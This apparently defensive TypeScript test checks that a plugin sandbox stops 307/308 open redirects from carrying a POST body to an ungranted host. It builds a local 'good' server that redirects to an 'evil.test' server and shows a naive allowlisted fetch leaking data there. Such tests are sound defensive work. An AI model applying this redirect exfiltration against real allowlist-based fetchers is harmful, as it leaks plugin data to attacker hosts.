// A granted server with an open redirect: 307 and 308 carry the body on, and what the plugin knows leaves for anywhere.

import { attack } from '../harness/attack.ts';
import { attackNet, deniedAll } from './attacker.ts';
import { LocalServer } from './local-server.ts';
import { allowText, naiveFetch, runSend } from './naive-fetch.ts';
import { testNames } from './names.ts';

const POST_EACH = `async (send, urls) =>
  Promise.all(urls.map((url) => attempt(async () => (await send(url, { method: 'POST', body: 'what the plugin knows' })).text)))`;

async function open(): Promise<{ good: LocalServer; evil: LocalServer }> {
  const evil = await LocalServer.start((_hit, response) => void response.end('thanks'));
  const good = await LocalServer.start(({ url }, response) => {
    response.writeHead(Number(url.split('?')[1]), { location: evil.at('evil.test') }).end();
  });
  return { good, evil };
}

const urls = (good: LocalServer): string[] =>
  [307, 308].map((status) => `${good.at('good.test')}/?${status}`);

export default attack({
  title: 'no redirect carries a body to a host that is not granted',
  harm: { kind: 'leak' },
  host: testNames,
  async bare() {
    const { good, evil } = await open();
    const send = naiveFetch(allowText(/^http:\/\/good\.test[:/]/));
    const value = await runSend(POST_EACH, send, urls(good));
    const harmed = evil.hits.every(({ body }) => body === 'what the plugin knows');
    return { harmed: harmed && evil.hits.length === 2, seen: JSON.stringify(value) };
  },
  async skerry(world) {
    const { good, evil } = await open();
    const outbound = [good.at('good.test')];
    const ended = await attackNet(world, POST_EACH, urls(good), { outbound });
    return deniedAll(ended, evil.connections);
  },
});
